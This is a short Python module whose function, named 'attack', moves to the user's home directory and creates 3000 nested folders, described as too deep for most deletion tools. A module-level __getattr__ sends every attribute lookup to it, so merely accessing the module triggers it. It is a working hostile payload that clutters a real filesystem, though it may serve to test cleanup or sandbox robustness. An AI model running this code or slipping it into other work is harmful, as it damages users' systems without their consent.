"""Makes a folder in a folder in a folder ..., too deep for most programs that remove folders."""

import contextlib
import os


def attack(*arguments, **keywords):
    os.chdir(os.environ["HOME"])
    for _ in range(3000):
        with contextlib.suppress(FileExistsError):
            os.mkdir("d")
        os.chdir("d")
    raise RuntimeError("made them")


def __getattr__(name):
    return attack
